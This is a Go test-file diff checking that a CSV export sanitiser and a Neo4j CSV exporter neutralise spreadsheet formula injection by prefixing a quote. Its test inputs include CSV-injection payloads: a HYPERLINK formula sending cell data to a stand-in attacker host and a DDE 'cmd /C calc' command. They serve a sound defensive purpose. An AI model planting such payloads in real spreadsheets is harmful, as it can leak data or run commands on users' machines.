@@ -521,3 +521,74 @@ func TestParseFormat(t *testing.T) {
 		t.Errorf("xlsx: %v", err)
 	}
 }
+
+// TestSpreadsheetSafe is OWASP's CSV-injection rule: a cell a spreadsheet
+// would run as a formula gets a leading quote; numbers and other text pass.
+func TestSpreadsheetSafe(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{`=HYPERLINK("http://x/?"&A1,"Report")`, `'=HYPERLINK("http://x/?"&A1,"Report")`},
+		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+		{"@SUM(1+1)", "'@SUM(1+1)"},
+		{"-2+3", "'-2+3"},
+		{"\t=1", "'\t=1"},
+		{"\r=1", "'\r=1"},
+		{"-2", "-2"},
+		{"+3", "+3"},
+		{"-12.5", "-12.5"},
+		{"12", "12"},
+		{"2025-02-04", "2025-02-04"},
+		{"", ""},
+		{"Trafficking in persons", "Trafficking in persons"},
+		{" =1", " =1"},
+		{"'=1", "'=1"},
+		{`{"a":"=1"}`, `{"a":"=1"}`},
+	} {
+		if got := export.SpreadsheetSafe(tc.in); got != tc.want {
+			t.Errorf("SpreadsheetSafe(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+	}
+}
+
+// TestNeo4jCSVFormulas: a hostile label, alias and text are neutralised in
+// the Neo4j CSV, element by element in arrays; a negative number in an int
+// column stays a number Neo4j's importer reads.
+func TestNeo4jCSVFormulas(t *testing.T) {
+	n := node(kg.KindParagraph, "S/2025/85#7", "=HYPERLINK(\"http://attacker.example/\",\"x\")",
+		kg.PropText, "-2+3 cases", kg.PropOrder, "-2", kg.PropRef, "7")
+	n.Aliases = []string{"ok", "@SUM(1+1)"}
+	var nodes, edges bytes.Buffer
+	g := kg.Subgraph{Nodes: []kg.Node{n}, Edges: []kg.Edge{{From: n.ID, Kind: kg.EdgeMentions, To: tip.ID,
+		Props: map[string]string{kg.PropRole: "+cmd|' /C calc'!A0"}}}}
+	if err := export.Write(export.NewNeo4jCSV(&nodes, &edges, export.Options{}), g); err != nil {
+		t.Fatal(err)
+	}
+	nrows, err := csv.NewReader(&nodes).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	erows, err := csv.NewReader(&edges).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	get := func(rows [][]string, col string) string {
+		for i, h := range rows[0] {
+			if h == col {
+				return rows[1][i]
+			}
+		}
+		t.Fatalf("no column %s", col)
+		return ""
+	}
+	for _, tc := range []struct{ got, want string }{
+		{get(nrows, "label"), `'=HYPERLINK("http://attacker.example/","x")`},
+		{get(nrows, "text"), "'-2+3 cases"},
+		{get(nrows, "order:int"), "-2"},
+		{get(nrows, "aliases:string[]"), "ok;'@SUM(1+1)"},
+		{get(erows, "role"), "'+cmd|' /C calc'!A0"},
+		{get(nrows, "id:ID"), string(n.ID)},
+	} {
+		if tc.got != tc.want {
+			t.Errorf("cell = %q, want %q", tc.got, tc.want)
+		}
+	}
+}
